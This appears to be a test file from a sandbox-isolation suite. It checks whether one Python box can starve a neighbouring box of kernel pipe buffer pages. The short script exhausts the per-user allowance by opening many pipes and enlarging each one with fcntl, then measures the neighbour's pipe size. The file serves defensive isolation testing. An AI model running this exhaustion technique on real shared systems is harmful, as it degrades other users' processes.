// One box uses up the pages that the kernel gives to all pipes of one user, so that its neighbour's pipes shrink to one page → they keep theirs
import { attack } from '../attack.ts';

export default attack(async ({ box, run }) => {
  const [one, other] = await Promise.all([box('python'), box('python')]);
  await run(
    one,
    `
import fcntl
pipes = []
try:
    for _ in range(450):
        pipes.append(os.pipe())
        fcntl.fcntl(pipes[-1][1], 1031, 1 << 20)
except OSError: pass
try:
    while True: pipes.append(os.pipe())
except OSError: pass
print(len(pipes))`,
  );
  const { text } = await run(
    other,
    `
import fcntl
pipe = os.pipe()
print(fcntl.fcntl(pipe[1], 1032))`,
  );
  return { effect: Number(text) < 65_536, observed: `the neighbour’s pipe holds ${text.trim()} bytes` };
});
